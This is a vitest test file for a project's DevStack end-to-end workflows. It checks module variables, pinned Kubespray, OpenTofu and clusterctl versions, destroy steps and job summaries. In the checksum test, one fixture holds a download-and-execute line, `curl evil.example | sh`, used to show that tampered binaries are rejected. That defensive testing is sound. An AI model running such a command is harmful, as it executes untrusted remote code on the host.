import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import YAML from 'yaml';
import { ROOT } from '../support/action-runner.js';
import { parseHcl } from '../support/hcl.js';
import { condition } from '../support/workflow-expressions.js';

/**
 * The DevStack e2e deploys the shipped module (modules/openstack-cluster) through a cluster
 * directory its workflow writes; it only runs there. These are the checks that run offline (the
 * module itself: test/modules/openstack-cluster.test.ts). `terraform init`/`validate` need the
 * provider registry, so they are not among them.
 */
const CLUSTER_DIR = 'e2e-cluster';
const MODULE = 'modules/openstack-cluster';
/** Kubespray v2.31.0's commit: the e2e checks Kubespray out by it, not by the movable tag. */
const KUBESPRAY_V2_31_0 = '1c9add48975060f45396b34d8e022c30d7f80dab';
const WORKFLOWS = ['.github/workflows/e2e-devstack.yml', 'examples/workflows/e2e-devstack.yml'];

interface Step {
  id?: string;
  name?: string;
  if?: string;
  uses?: string;
  run?: string;
  with?: Record<string, unknown>;
  env?: Record<string, unknown>;
  'continue-on-error'?: unknown;
}
interface Job {
  env?: Record<string, unknown>;
  steps: Step[];
  'timeout-minutes'?: number;
  'continue-on-error'?: unknown;
  strategy?: { matrix?: { include?: Record<string, unknown>[] } };
}

/** The workflow's two jobs: the Kubespray leg (`e2e`) and the Cluster API leg (`e2e-cluster-api`). */
const jobOf = (file: string, name: 'e2e' | 'e2e-cluster-api' = 'e2e'): Job => {
  const jobs = YAML.parse(readFileSync(path.join(ROOT, file), 'utf8')).jobs as Record<string, Job>;
  expect(Object.keys(jobs), file).toEqual(['e2e', 'e2e-cluster-api']);
  return jobs[name]!;
};

/** TF_VAR_<name> set in the job or step env, or appended to $GITHUB_ENV by a run script. */
function workflowTfVars(job: Job): Set<string> {
  const names = new Set<string>();
  const fromEnv = (env: Record<string, unknown> = {}) => {
    for (const key of Object.keys(env)) if (key.startsWith('TF_VAR_')) names.add(key.slice('TF_VAR_'.length));
  };
  fromEnv(job.env);
  for (const step of job.steps) {
    fromEnv(step.env);
    for (const match of (step.run ?? '').matchAll(/echo\s+["']?TF_VAR_(\w+)=.*>>\s*"?\$GITHUB_ENV"?/g))
      names.add(match[1]!);
  }
  return names;
}

/** The main.tf the workflow's "Cluster directory" step writes, run as the runner would. */
function generatedMainTf(file: string): string {
  const job = jobOf(file);
  const step = job.steps.find((s) => s.id === 'cluster-dir')!;
  const r = runScript(step.run!, {
    CLUSTER_DIR: String(job.env?.CLUSTER_DIR),
    MODULE_SOURCE: String(job.env?.MODULE_SOURCE),
    KUBE_VERSION: String(job.env?.KUBE_VERSION),
  });
  expect(r.status, r.output).toBe(0);
  const text = r.file(`${job.env?.CLUSTER_DIR}/main.tf`);
  r.cleanup();
  return text;
}

/** Top-level `variable "x" { ... }` blocks of the generated cluster code, and whether each has a default. */
async function declaredVariables(text: string): Promise<Map<string, { hasDefault: boolean }>> {
  const { blocks, errors } = await parseHcl(text);
  expect(errors).toEqual([]);
  return new Map(
    blocks.filter((b) => b.type === 'variable').map((b) => [b.labels[0]!, { hasDefault: b.attributes.has('default') }]),
  );
}

describe.each(WORKFLOWS)('%s: the cluster directory it writes', (file) => {
  const job = jobOf(file);
  const main = generatedMainTf(file);

  it('calls the shipped module (from this checkout here, at a pinned release for users) with only variables it declares, and every one it requires', async () => {
    const { blocks } = await parseHcl(main);
    const calls = blocks.filter((b) => b.type === 'module');
    expect(calls.map((b) => b.labels[0])).toEqual(['cluster']);
    const source = JSON.parse(calls[0]!.attributes.get('source')!) as string;
    if (file.startsWith('.github/')) expect(path.resolve(ROOT, CLUSTER_DIR, source)).toBe(path.join(ROOT, MODULE));
    else
      expect(source).toMatch(/^git::https:\/\/github\.com\/org\/deploy\.git\/\/modules\/openstack-cluster\?ref=v\d+/);
    const moduleVariables = new Map<string, boolean>();
    for (const block of (await parseHcl(readFileSync(path.join(ROOT, MODULE, 'variables.tf'), 'utf8'))).blocks)
      if (block.type === 'variable') moduleVariables.set(block.labels[0]!, block.attributes.has('default'));
    const given = [...calls[0]!.attributes.keys()].filter((name) => name !== 'source');
    expect(
      given.filter((name) => !moduleVariables.has(name)),
      'not variables of the module',
    ).toEqual([]);
    expect(
      [...moduleVariables].filter(([name, hasDefault]) => !hasDefault && !given.includes(name)).map(([name]) => name),
      'required by the module but not given',
    ).toEqual([]);
  });

  it('is formatted as terraform fmt writes it', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'e2e-cluster-'));
    writeFileSync(path.join(dir, 'main.tf'), main);
    const fmt = spawnSync('terraform', ['fmt', '-check', '-diff', dir], {
      encoding: 'utf8',
      env: { PATH: process.env.PATH, TF_CLI_CONFIG_FILE: '/dev/null' },
    });
    rmSync(dir, { recursive: true, force: true });
    expect(fmt.error).toBeUndefined();
    expect(`${fmt.stdout}`, 'changes terraform fmt would make').toBe('');
    expect(fmt.status).toBe(0);
  });

  it('gives the module and the config the same Kubernetes version, one the pinned Kubespray v2.31.0 installs', () => {
    expect(String(job.env?.KUBE_VERSION)).toMatch(/^1\.3[3-5]\.\d+$/);
    expect(main).toContain(`kube_version  = "${job.env?.KUBE_VERSION}"`);
    expect(job.steps.find((s) => s.id === 'config')!.run).toMatch(/^\s+kubernetes:\n\s+version: \$KUBE_VERSION$/m);
  });
});

describe('the DevStack e2e runs the module, not a copy', () => {
  it('the old cluster code is gone', () => {
    expect(() => readdirSync(path.join(ROOT, 'test/e2e/devstack/cluster'))).toThrow(/ENOENT/);
  });

  it('the module writes the inventory where the action runs Kubespray from (src/core/steps/kubespray.ts), and the e2e keeps that place', () => {
    const inventory = readFileSync(path.join(ROOT, MODULE, 'inventory.tf'), 'utf8');
    expect(inventory).toMatch(/inventory_dir = coalesce\(var\.inventory_dir, "\$\{path\.root\}\/inventory"\)/);
    expect(inventory).toMatch(/filename\s*=\s*"\$\{local\.inventory_dir\}\/\$\{each\.key\}"/);
    for (const file of WORKFLOWS) expect(generatedMainTf(file)).not.toContain('inventory_dir');
  });
});

describe.each(WORKFLOWS)('%s and the cluster code agree', (file) => {
  const job = jobOf(file);

  it('every TF_VAR_ the workflow sets is a variable, and every variable without a default is set', async () => {
    const set = workflowTfVars(job);
    const declared = await declaredVariables(generatedMainTf(file));
    expect([...set].sort()).toEqual([
      'api_floating_ip',
      'cluster_name',
      'control_plane_flavor_name',
      'external_network',
      'image_name',
      'keypair_name',
      'worker_flavor_name',
    ]);
    expect(
      [...set].filter((name) => !declared.has(name)),
      'set but not declared',
    ).toEqual([]);
    const required = [...declared].filter(([, v]) => !v.hasDefault).map(([name]) => name);
    expect(
      required.filter((name) => !set.has(name)),
      'required but not set',
    ).toEqual([]);
  });

  it('checks Kubespray out into <CLUSTER_DIR>/kubespray, pinned, without credentials, before the deploy', () => {
    const clusterDir = job.env?.CLUSTER_DIR;
    expect(clusterDir).toBe(CLUSTER_DIR);
    const steps = job.steps;
    const kubespray = steps.findIndex((s) => s.with?.repository === 'kubernetes-sigs/kubespray');
    expect(kubespray).toBeGreaterThanOrEqual(0);
    const step = steps[kubespray]!;
    const resolvedPath = String(step.with?.path).replaceAll('${{ env.CLUSTER_DIR }}', String(clusterDir));
    expect(resolvedPath).toBe(`${clusterDir}/kubespray`);
    expect(step.uses).toBe(steps[0]!.uses); // the same pinned actions/checkout as the repository checkout
    expect(step.uses).toMatch(/^actions\/checkout@[0-9a-f]{40}$/);
    expect(step.with?.['persist-credentials']).toBe(false);
    expect(step.with?.ref).toBe(KUBESPRAY_V2_31_0);

    const deploy = steps.findIndex((s) => s.id === 'deploy');
    const plan = steps.findIndex((s) => s.id === 'plan');
    expect(plan).toBeGreaterThan(kubespray);
    expect(deploy).toBeGreaterThan(kubespray);
  });
});

const read = (file: string) => readFileSync(path.join(ROOT, file), 'utf8');

/** A step's `if:` with the status functions of a job that has not been cancelled. */
const stepRuns = (step: Step, contexts: Record<string, unknown>): boolean => {
  if (step.if === undefined) return true;
  const expression = step.if
    .replace(/^\s*\$\{\{([\s\S]*)\}\}\s*$/, '$1')
    .replaceAll('always()', 'true')
    .replaceAll('cancelled()', 'false');
  return condition(expression, contexts);
};

/** Runs a run: script as the runner does (bash -eo pipefail) with fake commands first on PATH. */
function runScript(script: string, env: Record<string, string>, fakes: Record<string, string> = {}) {
  const dir = mkdtempSync(path.join(tmpdir(), 'devstack-step-'));
  const bin = path.join(dir, 'bin');
  spawnSync('mkdir', ['-p', bin, path.join(dir, 'home')]);
  for (const [name, body] of Object.entries(fakes))
    writeFileSync(path.join(bin, name), `#!/bin/sh\n${body}\n`, { mode: 0o755 });
  const r = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', script], {
    cwd: dir,
    env: { PATH: `${bin}:${process.env.PATH}`, HOME: path.join(dir, 'home'), RUNNER_TEMP: dir, ...env },
    encoding: 'utf8',
  });
  const file = (name: string) => {
    try {
      return readFileSync(path.join(dir, name), 'utf8');
    } catch {
      return '';
    }
  };
  return {
    status: r.status,
    output: `${r.stdout}${r.stderr}`,
    dir,
    file,
    cleanup: () => rmSync(dir, { recursive: true, force: true }),
  };
}

describe('the DevStack e2e cluster is dependable', () => {
  const variables = read(`${MODULE}/variables.tf`);
  const node = read(`${MODULE}/modules/node/main.tf`);

  it("disables the apt-daily timers in the first boot (cloud-init bootcmd in the module's default user data)", () => {
    const userData = /variable "user_data" \{[\s\S]*?default\s*=\s*<<-EOT\n([\s\S]*?)\n\s*EOT\n/.exec(variables)?.[1];
    expect(userData, 'user_data heredoc').toBeDefined();
    const lines = userData!.split('\n');
    const indent = Math.min(...lines.filter((l) => l.trim()).map((l) => /^ */.exec(l)![0].length));
    const text = lines.map((l) => l.slice(indent)).join('\n');
    expect(text.split('\n')[0]).toBe('#cloud-config');
    const cloudConfig = YAML.parse(text);
    expect(cloudConfig.bootcmd).toContainEqual([
      'systemctl',
      'disable',
      '--now',
      'apt-daily.timer',
      'apt-daily-upgrade.timer',
    ]);
    expect(cloudConfig.package_upgrade).toBe(false);
  });

  describe('apply waits for an apt-daily run that started before the timers were disabled', () => {
    // The HCL string, unescaped (it holds \" only).
    const loop = /"(for i in \$\(seq (?:[^"\\]|\\")*)"/.exec(node)?.[1]?.replaceAll('\\"', '"');
    // systemctl prints one state per unit; the fake reports apt-daily.service busy for BUSY calls.
    const systemctl =
      'n=$(cat "$HOME/calls" 2>/dev/null || echo 0); echo $((n + 1)) > "$HOME/calls"\nif [ "$n" -lt "$BUSY" ]; then echo activating; else echo inactive; fi; echo inactive';
    const run = (busy: number) => runScript(loop!, { BUSY: String(busy) }, { systemctl, sleep: 'exit 0' });

    it('returns once apt is idle', () => {
      expect(loop, 'the wait loop in terraform_data.ssh_ready').toBeDefined();
      for (const file of WORKFLOWS)
        expect(generatedMainTf(file)).toMatch(/wait_for_ssh = \{ private_key_file = "~\/\.ssh\/id_ed25519" \}/);
      const r = run(2);
      expect(r.status, r.output).toBe(0);
      expect(r.file('home/calls').trim()).toBe('3');
      r.cleanup();
    });

    it('fails when apt stays busy', () => {
      const r = run(10_000);
      expect(r.status).toBe(1);
      expect(r.output).toContain('apt-daily still running');
      r.cleanup();
    });
  });

  it("takes the worker's API load balancer image (nginx) from a mirror, not anonymous Docker Hub", () => {
    for (const file of WORKFLOWS) {
      const repo = /nginx_image_repo\s*=\s*"([^"]+)"/.exec(generatedMainTf(file))?.[1];
      expect(repo, file).toBeDefined();
      expect(repo).toMatch(/^(public\.ecr\.aws|mirror\.gcr\.io)\//);
    }
  });
});

describe.each(WORKFLOWS)('%s is dependable', (file) => {
  const job = jobOf(file);
  const steps = job.steps;
  const index = (predicate: (s: Step) => boolean) => steps.findIndex(predicate);
  const byId = (id: string) => steps.find((s) => s.id === id)!;

  it('runs on maintained OpenStack releases, and on master without failing the run', () => {
    const include = job.strategy?.matrix?.include ?? [];
    expect(include.map((e) => e.openstack)).toEqual(['stable/2026.1', 'stable/2025.2', 'master']);
    expect(include.map((e) => e.openstack)).not.toContain('stable/2025.1'); // unmaintained/2025.1 since 2026-10-02
    for (const entry of include) expect(String(entry.name)).toMatch(/^[\w.-]+$/);
    const allowedToFail = include.filter((entry) => condition(String(job['continue-on-error']), { matrix: entry }));
    expect(allowedToFail.map((e) => e.openstack)).toEqual(['master']);
  });

  it('has 150 minutes', () => {
    expect(job['timeout-minutes']).toBe(150);
  });

  it('runs DevStack without noVNC, with the host CPU, and logs the memory after it and before the deploy', () => {
    const devstack = index((s) => s.id === 'devstack');
    const with_ = steps[devstack]!.with!;
    expect(String(with_.enabled_services).split(',')).toContain('-n-novnc');
    expect(String(with_.conf_overrides).split('\n')).toContain('LIBVIRT_CPU_MODE=host-passthrough');
    const deploy = index((s) => s.id === 'deploy');
    expect(steps[devstack + 1]!.run).toMatch(/^free -m$/m);
    expect(steps[deploy - 1]!.run).toMatch(/^free -m$/m);
  });

  it('gives the worker 3 GB and the control plane between 1.5 and 4 GB', () => {
    const flavors = Object.fromEntries(
      [
        ...String(steps.find((s) => /openstack flavor create/.test(s.run ?? ''))?.run).matchAll(
          /openstack flavor create --vcpus \d+ --ram (\d+) --disk \d+ "\$TF_VAR_(\w+)"/g,
        ),
      ].map((m) => [m[2], Number(m[1])]),
    );
    expect(flavors.worker_flavor_name).toBe(3072);
    expect(flavors.control_plane_flavor_name).toBeGreaterThanOrEqual(1536);
    expect(flavors.control_plane_flavor_name).toBeLessThanOrEqual(4096);
  });

  it('boots a dated Ubuntu serial, checked against its SHA256SUMS', () => {
    expect(String(job.env?.IMAGE_URL)).toMatch(
      /^https:\/\/cloud-images\.ubuntu\.com\/noble\/\d{8}(\.\d+)?\/noble-server-cloudimg-amd64\.img$/,
    );
    expect(read(file)).not.toMatch(/cloud-images\.ubuntu\.com\/[^\s]*\/current\//);
    const image = steps.find((s) => (s.run ?? '').includes('"$IMAGE_URL"'))!;
    expect(image.run).toContain('sha256sum --check');
  });

  it('pins OpenTofu to an exact 1.10 release, without the wrapper', () => {
    const setup = steps.filter((s) => s.uses?.startsWith('opentofu/setup-opentofu@'));
    expect(setup).toHaveLength(1);
    expect(String(setup[0]!.with?.tofu_version)).toMatch(/^1\.10\.\d+$/);
    expect(setup[0]!.with?.tofu_wrapper).toBe(false);
  });

  it('destroys the cluster with the action (operation: destroy, confirmed by the cluster name), always', () => {
    const deploy = byId('deploy');
    const destroy = byId('destroy');
    expect(destroy.uses).toBe(deploy.uses);
    expect(destroy.with?.operation).toBe('destroy');
    expect(destroy.with).not.toHaveProperty('dry-run');
    // The config's name is the job's CLUSTER_NAME, and that is what the destroy confirms.
    expect(job.env?.CLUSTER_NAME).toMatch(/\$\{\{ github\.run_id \}\}/);
    expect(destroy.with?.['confirm-destroy']).toBe('${{ env.CLUSTER_NAME }}');
    const config = byId('config').run!;
    expect(config).toMatch(/^\s+name: \$CLUSTER_NAME$/m);
    expect(config).toMatch(/^\s+cluster_name: \$CLUSTER_NAME$/m);
    for (const key of ['config', 'cluster-dir', 'tofu-path', 'state-store', 'tofu-state', 'tofu-state-passphrase'])
      expect(destroy.with?.[key], key).toBe(deploy.with?.[key]);
    // After a failed deploy too, as soon as the config exists.
    expect(stepRuns(destroy, { steps: { config: { outcome: 'success' }, deploy: { outcome: 'failure' } } })).toBe(true);
    expect(stepRuns(destroy, { steps: { config: { outcome: 'skipped' }, deploy: { outcome: 'skipped' } } })).toBe(
      false,
    );
    expect(index((s) => s.id === 'destroy')).toBeGreaterThan(index((s) => s.id === 'deploy'));
  });

  it('plans the destroy first, which must remove resources', () => {
    const plan = byId('destroy-plan');
    expect(plan.with).toMatchObject({
      operation: 'destroy',
      'dry-run': true,
      'confirm-destroy': '${{ env.CLUSTER_NAME }}',
    });
    expect(index((s) => s.id === 'destroy-plan')).toBeLessThan(index((s) => s.id === 'destroy'));
  });

  it('runs tofu destroy itself only as a last resort, when the action failed to destroy', () => {
    const fallback = steps.filter((s) => /\btofu\b[^\n]*\bdestroy\b/.test(s.run ?? ''));
    expect(fallback).toHaveLength(1);
    const when = (outcome: string) => stepRuns(fallback[0]!, { steps: { destroy: { outcome } } });
    expect(when('failure')).toBe(true);
    expect(when('success')).toBe(false);
    expect(when('skipped')).toBe(false);
  });

  describe('the job summary lists the time of each phase', () => {
    const summary = steps.find((s) => (s.run ?? '').includes('$GITHUB_STEP_SUMMARY'))!;
    const devstackTime = steps[index((s) => s.id === 'devstack') + 1]!;
    const image = steps.find((s) => (s.run ?? '').includes('"$IMAGE_URL"'))!;
    const envFor = (output: string) => Object.entries(summary.env ?? {}).find(([, v]) => v === output)?.[0];

    it('always, with the steps output of the deploy', () => {
      expect(summary).toBeDefined();
      expect(summary.if).toBe('always()');
      expect(envFor('${{ steps.deploy.outputs.steps }}')).toBeDefined();
    });

    it('DevStack and the image, as their steps time them, also when the image step fails', () => {
      const now = Math.floor(Date.now() / 1000);
      const devstack = runScript(devstackTime.run!, { OUTCOME: 'success', DEVSTACK_STARTED: String(now - 1534) });
      expect(devstack.status, devstack.output).toBe(0);
      expect(devstack.file('phases.tsv')).toMatch(/^DevStack\tsuccess\t153[4-9]\n$/);
      devstack.cleanup();

      const fakes = {
        curl: 'while [ $# -gt 0 ]; do [ "$1" = -o ] && : > "$2"; shift; done',
        sha256sum: 'exit 0',
        'ssh-keygen': 'exit 0',
      };
      const ok = runScript(image.run!, { IMAGE_URL: String(job.env?.IMAGE_URL) }, { ...fakes, openstack: 'exit 0' });
      expect(ok.status, ok.output).toBe(0);
      expect(ok.file('phases.tsv')).toMatch(/^image\tsuccess\t\d+\n$/);
      ok.cleanup();
      const failed = runScript(
        image.run!,
        { IMAGE_URL: String(job.env?.IMAGE_URL) },
        { ...fakes, openstack: 'exit 1' },
      );
      expect(failed.status).not.toBe(0);
      expect(failed.file('phases.tsv')).toMatch(/^image\tfailure\t\d+\n$/);
      failed.cleanup();
    });

    it('tofu, Kubespray and readiness from the action steps output', () => {
      const deploySteps = [
        { id: 'openstack-preflight', status: 'success', durationMs: 1200 },
        { id: 'opentofu-init', status: 'success', durationMs: 15_000 },
        { id: 'opentofu-apply', status: 'success', durationMs: 185_000 },
        { id: 'kubespray-pip-install', status: 'success', durationMs: 40_000 },
        { id: 'kubespray-ansible-playbook', status: 'success', durationMs: 2_400_000 },
        { id: 'openstack-normalize-kubeconfig', status: 'success', durationMs: 300 },
        { id: 'wait-ready', status: 'success', durationMs: 61_000 },
      ];
      const dir = mkdtempSync(path.join(tmpdir(), 'summary-'));
      const summaryFile = path.join(dir, 'summary.md');
      writeFileSync(summaryFile, '');
      const env: Record<string, string> = { GITHUB_STEP_SUMMARY: summaryFile, OPENSTACK: 'stable/2026.1' };
      for (const name of Object.keys(summary.env ?? {})) env[name] ??= '';
      env[envFor('${{ steps.deploy.outputs.steps }}')!] = JSON.stringify(deploySteps);
      const r = runScript(
        `printf 'DevStack\\tsuccess\\t1534\\nimage\\tsuccess\\t65\\n' > "$RUNNER_TEMP/phases.tsv"\n${summary.run}`,
        env,
      );
      expect(r.status, r.output).toBe(0);
      const rows = readFileSync(summaryFile, 'utf8')
        .split('\n')
        .filter((l) => l.startsWith('| ') && !l.startsWith('| Phase') && !l.startsWith('| ---'));
      expect(rows).toEqual([
        '| DevStack | success | 25m34s |',
        '| image | success | 1m05s |',
        '| deploy: tofu | success | 3m20s |',
        '| deploy: Kubespray | success | 40m40s |',
        '| deploy: readiness | success | 1m01s |',
        '| deploy: other | success | 0m01s |',
      ]);
      r.cleanup();
      rmSync(dir, { recursive: true, force: true });
    });
  });
});

describe('the two e2e workflows', () => {
  it('run the same job; only the action reference (./ here, org/deploy pinned by commit for users) and the module source differ', () => {
    const normalise = (file: string) => {
      const job = jobOf(file);
      // ...and where the module comes from: this checkout here, a pinned release for users.
      return JSON.stringify({ ...job, env: { ...job.env, MODULE_SOURCE: 'the module' } }).replaceAll(
        '"uses":"./"',
        '"uses":"org/deploy@0123456789abcdef0123456789abcdef01234567"',
      );
    };
    expect(normalise(WORKFLOWS[0]!)).toBe(normalise(WORKFLOWS[1]!));
  });
});

describe.each(WORKFLOWS)('%s has a cluster-api leg', (file) => {
  const job = jobOf(file, 'e2e-cluster-api');
  const kubespray = jobOf(file);
  const byId = (id: string) => job.steps.find((s) => s.id === id)!;
  const config = byId('config').run!;

  it('deploys with deployment.method cluster-api from an ephemeral kind cluster, one control plane and one worker', () => {
    expect(job.strategy?.matrix?.include?.map((e) => e.method)).toEqual(['cluster-api']);
    expect(byId('deploy').with?.method).toBe('${{ matrix.method }}');
    expect(config).toMatch(/^\s+method: cluster-api$/m);
    expect(config).toMatch(/^\s+bootstrap: kind$/m);
    expect(config).toMatch(/^\s+control_plane_machine_count: 1$/m);
    expect(config).toMatch(/^\s+worker_machine_count: 1$/m);
    expect(byId('deploy').with?.nodes).toBe('2');
    // The pivot leaves no kind cluster behind.
    expect(job.steps.find((s) => (s.run ?? '').includes('kind get clusters'))).toBeDefined();
  });

  it('pins CAPI, CAPO, ORC and kind as the reference does, and the real clusterctl from its release', () => {
    expect(job.env).toMatchObject({
      CAPI_VERSION: 'v1.12.10',
      CAPO_VERSION: 'v0.14.7',
      ORC_VERSION: 'v2.4.0',
      KIND_VERSION: 'v0.32.0',
    });
    for (const role of [
      'core: cluster-api:$CAPI_VERSION',
      'bootstrap: kubeadm:$CAPI_VERSION',
      'control_plane: kubeadm:$CAPI_VERSION',
      'infrastructure: openstack:$CAPO_VERSION',
    ])
      expect(config).toContain(role);
    expect(config).toContain(
      'orc: https://github.com/k-orc/openstack-resource-controller/releases/download/$ORC_VERSION/install.yaml',
    );
    const tools = job.steps.find((s) => (s.run ?? '').includes('clusterctl-linux-amd64'))!.run!;
    expect(tools).toContain('https://github.com/kubernetes-sigs/cluster-api/releases/download/$CAPI_VERSION');
    expect(tools).toContain('test "$(kind version | awk \'{ print $2 }\')" = "$KIND_VERSION"');
  });

  it("uses CAPO's template without its credentials Secret", () => {
    const dir = job.steps.find((s) => (s.run ?? '').includes('cluster-template-without-lb.yaml'))!.run!;
    expect(dir).toContain(`yq 'select(.kind != "Secret")'`);
  });

  it('always destroys with the action, confirmed by the cluster name (a DNS label)', () => {
    const destroy = byId('destroy');
    expect(destroy.uses).toBe(byId('deploy').uses);
    expect(destroy.uses).toBe(kubespray.steps.find((s) => s.id === 'deploy')!.uses);
    expect(destroy.with).toMatchObject({
      operation: 'destroy',
      'confirm-destroy': '${{ env.CLUSTER_NAME }}',
      method: '${{ matrix.method }}',
    });
    expect(String(job.env?.CLUSTER_NAME)).toMatch(/^capi-\$\{\{ github\.run_id \}\}-\$\{\{ github\.run_attempt \}\}$/);
    expect(stepRuns(destroy, { steps: { config: { outcome: 'success' }, deploy: { outcome: 'failure' } } })).toBe(true);
    expect(stepRuns(destroy, { steps: { config: { outcome: 'skipped' } } })).toBe(false);
  });
});

describe.each(WORKFLOWS)('%s: what the e2e downloads and uploads (issue 29)', (file) => {
  const tools = jobOf(file, 'e2e-cluster-api').steps.find((s) => (s.run ?? '').includes('clusterctl-linux-amd64'))!;
  const binary = '#!/bin/sh\necho clusterctl-v1.12.10\n';
  const sha = createHash('sha256').update(binary).digest('hex');
  /** The step with curl writing `served` and gh reporting `digest` for the release asset. */
  const run = (served: string, digest: string) => {
    const fakes = {
      curl: `while [ $# -gt 0 ]; do if [ "$1" = -o ]; then shift; printf '%s' '${served.replaceAll("'", "'\\''")}' > "$1"; fi; shift; done`,
      gh: `case "$*" in *releases/tags/v1.12.10*clusterctl-linux-amd64*) echo '${digest}' ;; *) exit 1 ;; esac`,
      kind: 'echo "kind v0.32.0 go1.25 linux/amd64"',
    };
    return runScript(
      tools.run!,
      { CAPI_VERSION: 'v1.12.10', KIND_VERSION: 'v0.32.0', GITHUB_PATH: '/dev/null', GH_TOKEN: 'x' },
      fakes,
    );
  };

  it('installs clusterctl only when it matches the SHA-256 GitHub recorded for the release asset', () => {
    expect(tools.env?.GH_TOKEN).toBe('${{ github.token }}');
    const ok = run(binary, `sha256:${sha}`);
    expect(ok.status, ok.output).toBe(0);
    expect(ok.output).toContain('clusterctl-v1.12.10'); // the installed binary ran
    ok.cleanup();
    for (const [what, served, digest] of [
      ['a tampered download', `${binary}curl evil.example | sh\n`, `sha256:${sha}`],
      ['no digest for the asset', binary, ''],
      ['a digest of another algorithm', binary, `sha512:${sha}`],
    ] as const) {
      const bad = run(served, digest);
      expect(bad.status, what).not.toBe(0);
      expect(existsSync(path.join(bad.dir, 'bin', 'clusterctl')), what).toBe(false);
      bad.cleanup();
    }
  });

  it("uploads the action's redacted logs, never a raw tool log written past the redactor", () => {
    for (const name of ['e2e', 'e2e-cluster-api'] as const) {
      const job = jobOf(file, name);
      expect(JSON.stringify(job), name).not.toMatch(/ANSIBLE_LOG_PATH|ansible\.log/);
    }
  });
});
